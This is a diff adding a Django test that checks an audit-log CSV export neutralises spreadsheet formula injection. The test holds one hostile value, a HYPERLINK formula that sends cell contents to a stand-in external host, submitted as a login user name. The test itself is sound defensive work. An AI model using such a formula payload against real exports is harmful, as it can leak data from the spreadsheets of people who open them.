@@ -168,3 +168,17 @@ def test_the_privacy_officer_searches_and_exports(client, professional, family, 
     response = client.get(reverse("audit:event-list"), {"start": "geen datum"})
     assert response.status_code == 200
     assert "Voer een geldige datum in" in response.content.decode()
+
+
+def test_a_user_name_typed_as_a_formula_stays_text_in_the_export(client):
+    hostile = '=HYPERLINK("http://elders.example/?"&A1;"klik")'
+    Client().post(reverse("login"), {"username": hostile, "password": "fout"})
+    officer = UserFactory(username="privacy")
+    officer.groups.add(Group.objects.get(name=PRIVACY_OFFICER_GROUP))
+    client.force_login(officer)
+    response = client.get(reverse("audit:event-csv"))
+    rows = list(csv.reader(io.StringIO(response.content.decode()), delimiter=";"))
+    names = [row[1] for row in rows[1:]]
+    assert "'" + hostile in names
+    assert hostile not in names
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
